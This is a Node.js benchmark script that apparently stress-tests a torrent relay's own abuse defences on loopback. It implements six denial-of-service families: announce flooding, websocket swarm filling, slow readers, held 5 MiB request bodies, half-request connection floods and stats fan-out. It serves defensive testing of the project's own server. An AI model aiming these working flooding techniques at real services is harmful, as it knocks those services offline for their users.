// One attacker for bench/abuse, run as its own process from one loopback alias (shared.js):
//   node attack.js FAMILY PORT [RAMP_MAX_S]
// Attacks the relay on 127.0.0.1:PORT at full speed until SIGTERM, then prints one JSON line
// of what it did. Whatever the relay closes is opened again, so the pressure stays on. The
// families (issue 20's findings):
//   tracker-fill  HTTP announces for random hashes, keep-alive, CONNECTIONS.fill connections
//                 with PIPELINE requests in flight each
//   websocket     CONNECTIONS.websocket sockets, each announcing a random hash every 20 ms
//   slow-readers  CONNECTIONS.slow connections asking a large GET /v1/listings page, never
//                 reading it (index.js seeds the catalog first)
//   held-bodies   CONNECTIONS.held POST /v1/sealed of HELD_BODY_BYTES, all but the last byte
//   conn-flood    CONNECTIONS.flood connections, each with half a request line sent
//   fan-out       GET /v1/stats with 100 random hashes, CONNECTIONS.fanOut in flight
// (The Sybil family is sybil.js: it needs servers of its own.)

import { randomBytes } from 'node:crypto'
import { Agent, get } from 'node:http'
import { connect } from 'node:net'
import WebSocket from 'ws'
import { ATTACKER, onStop } from './shared.js'

const CONNECTIONS = { fill: 64, websocket: 200, slow: 300, held: 300, flood: 4000, fanOut: 200 }
/** Just under the POST /v1/sealed cap (relay/limits.ts MAX_SEALED_REQUEST_BYTES, 5 MiB +
 * 64 KiB), as in the issue; 300 of them are 1.5 GiB if the relay buffers them. */
const HELD_BODY_BYTES = 5 * 1024 * 1024
/** Connections being opened at once (a SYN flood is not the point; a full accept queue
 * would only slow the attacker down). */
const MAX_CONNECTING = 256
/** Announces pipelined on each tracker-fill connection (fewer syscalls on both sides). */
const PIPELINE = 8
/** Time given to open the connections before the measured window starts. */
const RAMP_MS = 1000
/** The filling families say they are at full speed once they have had this many answers
 * (the relay's default --max-torrents: a default tracker is full by then, unless it refused
 * them), or after RAMP_MAX_S (third argument, default 15 s), whichever comes first: the
 * measured window is then the tracker as the attacker left it, not its first seconds. */
const FILL_ANSWERS = 100_000

const [family, portArg, rampArg] = process.argv.slice(2)
const PORT = Number(portArg)
const RAMP_MAX_MS = Number(rampArg ?? 15) * 1000
const stats = { family, opened: 0, closed: 0, errors: 0, requests: 0, answers: 0, refused: 0 }
const statuses = {}
const started = performance.now()
let stopped = false

onStop(() => {
  stopped = true
  const seconds = (performance.now() - started) / 1000
  return {
    ...stats,
    seconds: Number(seconds.toFixed(2)),
    answers_per_s: Math.round(stats.answers / seconds),
    statuses,
  }
})

const hexHash = () => randomBytes(20).toString('hex')
const pctHash = () => hexHash().replace(/../g, '%$&')
const announceTarget = () =>
  `/announce?info_hash=${pctHash()}&peer_id=${pctHash()}&port=6881&uploaded=0&downloaded=0` +
  `&left=1000&compact=1&event=started`

/**
 * Keeps `count` raw TCP connections from the attacker's address open; `setup(socket)` is
 * called on each once it connects. A connection the relay closes is replaced.
 */
function keepOpen(count, setup) {
  let open = 0
  let connecting = 0
  const fill = () => {
    while (!stopped && open + connecting < count && connecting < MAX_CONNECTING) {
      connecting++
      const socket = connect({ host: '127.0.0.1', port: PORT, localAddress: ATTACKER })
      let connected = false
      socket.on('connect', () => {
        connected = true
        connecting--
        open++
        stats.opened++
        setup(socket)
        fill()
      })
      socket.on('error', () => {
        stats.errors++
        socket.destroy()
      })
      socket.on('close', () => {
        if (connected) {
          open--
          stats.closed++
        } else connecting--
        // A refused connect is retried after a pause, not in a tight loop.
        if (connected) setImmediate(fill)
        else setTimeout(fill, 10)
      })
    }
  }
  fill()
}

/** Counts the status line of each HTTP answer that starts in `chunk` (good enough for
 * answers read whole or not at all). */
function countStatuses(chunk) {
  const text = chunk.toString('latin1')
  for (const m of text.matchAll(/HTTP\/1\.1 (\d{3})/g)) {
    statuses[m[1]] = (statuses[m[1]] ?? 0) + 1
    stats.answers++
  }
}

/** Keep-alive announces, PIPELINE in flight per connection, answers read by Content-Length. */
function trackerFill() {
  keepOpen(CONNECTIONS.fill, (socket) => {
    socket.setNoDelay(true)
    let buf = Buffer.alloc(0)
    const request = () => {
      stats.requests++
      return `GET ${announceTarget()} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`
    }
    const send = () => socket.write(request())
    socket.on('data', (chunk) => {
      buf = buf.length === 0 ? chunk : Buffer.concat([buf, chunk])
      for (;;) {
        const end = buf.indexOf('\r\n\r\n')
        if (end === -1) return
        const length = /content-length:\s*(\d+)/i.exec(buf.toString('latin1', 0, end))
        if (!length) return void socket.destroy()
        const size = end + 4 + Number(length[1])
        if (buf.length < size) return
        stats.answers++
        if (buf.includes('failure reason', end)) stats.refused++
        buf = buf.subarray(size)
        send()
      }
    })
    socket.write(Array.from({ length: PIPELINE }, request).join(''))
  })
}

/** Sockets announcing a new random hash every 20 ms each (the relay's per-socket message
 * budget), so each one can join its MAX_SWARMS_PER_SOCKET swarms in seconds. */
function websocket() {
  const binary = () => randomBytes(20).toString('latin1')
  const one = () => {
    if (stopped) return
    const ws = new WebSocket(`ws://127.0.0.1:${PORT}/`, { localAddress: ATTACKER })
    const peerId = binary()
    let timer = null
    ws.on('open', () => {
      stats.opened++
      timer = setInterval(() => {
        if (ws.readyState !== WebSocket.OPEN) return
        stats.requests++
        ws.send(
          JSON.stringify({
            action: 'announce',
            info_hash: binary(),
            peer_id: peerId,
            numwant: 0,
            uploaded: 0,
            downloaded: 0,
            left: 1000,
            event: 'started',
            offers: [],
          }),
        )
      }, 20)
    })
    ws.on('message', (data) => {
      stats.answers++
      if (data.toString().includes('failure reason')) stats.refused++
    })
    ws.on('error', () => stats.errors++)
    ws.on('close', () => {
      clearInterval(timer)
      if (timer) stats.closed++
      setTimeout(one, 10)
    })
  }
  for (let i = 0; i < CONNECTIONS.websocket; i++) one()
}

/** Asks for the largest catalog page and never reads it: the answer sits in the relay. */
function slowReaders() {
  keepOpen(CONNECTIONS.slow, (socket) => {
    socket.pause()
    stats.requests++
    socket.write('GET /v1/listings?after=0&limit=1000 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n')
  })
}

/** A body just under the cap, all but its last byte. Answers (a 408 when it stalls) are read. */
function heldBodies() {
  const body = randomBytes(HELD_BODY_BYTES - 1)
  keepOpen(CONNECTIONS.held, (socket) => {
    stats.requests++
    socket.on('data', countStatuses)
    socket.write(
      'POST /v1/sealed HTTP/1.1\r\nHost: 127.0.0.1\r\n' +
        `Content-Type: application/octet-stream\r\nContent-Length: ${HELD_BODY_BYTES}\r\n\r\n`,
    )
    socket.write(body)
  })
}

/** Thousands of connections, each with a request line and one header sent, and no more. */
function connectionFlood() {
  keepOpen(CONNECTIONS.flood, (socket) => {
    stats.requests++
    socket.on('data', countStatuses)
    socket.write(`GET ${announceTarget()} HTTP/1.1\r\nHost: 127.0.0.1\r\n`)
  })
}

/** GET /v1/stats for 100 hashes the relay has never seen, as many in flight as allowed:
 * each may make the relay ask the hashes' owners. */
function fanOut() {
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS.fanOut })
  const one = () => {
    if (stopped) return
    const query = Array.from({ length: 100 }, () => `ih=${hexHash()}`).join('&')
    stats.requests++
    const req = get(
      { host: '127.0.0.1', port: PORT, path: `/v1/stats?${query}`, agent, localAddress: ATTACKER },
      (res) => {
        res.resume()
        res.on('end', () => {
          stats.answers++
          statuses[res.statusCode] = (statuses[res.statusCode] ?? 0) + 1
          if (res.statusCode !== 200) stats.refused++
          one()
        })
      },
    )
    req.setTimeout(30_000, () => req.destroy())
    req.on('error', () => {
      stats.errors++
      setTimeout(one, 10)
    })
  }
  for (let i = 0; i < CONNECTIONS.fanOut; i++) one()
}

const FAMILIES = {
  'tracker-fill': trackerFill,
  websocket,
  'slow-readers': slowReaders,
  'held-bodies': heldBodies,
  'conn-flood': connectionFlood,
  'fan-out': fanOut,
}
if (!FAMILIES[family] || !(PORT > 0)) {
  process.stderr.write(`usage: node attack.js ${Object.keys(FAMILIES).join('|')} PORT\n`)
  process.exit(2)
}
FAMILIES[family]()
// Paused sockets (slow readers) keep no libuv handle active: this keeps the process alive
// until SIGTERM.
setInterval(() => {}, 1000)
// The caller opens its measuring window on this line: by then the attack is at full speed
// (and a filling attack has had its chance to fill the tracker).
const filling = family === 'tracker-fill' || family === 'websocket'
const rampStart = performance.now()
const ramp = setInterval(() => {
  const waited = performance.now() - rampStart
  if (waited < RAMP_MS) return
  if (filling && stats.answers < FILL_ANSWERS && waited < RAMP_MAX_MS) return
  clearInterval(ramp)
  const line = {
    phase: 'attacking',
    ramp_s: Number((waited / 1000).toFixed(1)),
    answers: stats.answers,
    refused: stats.refused,
  }
  process.stdout.write(JSON.stringify(line) + '\n')
}, 100)
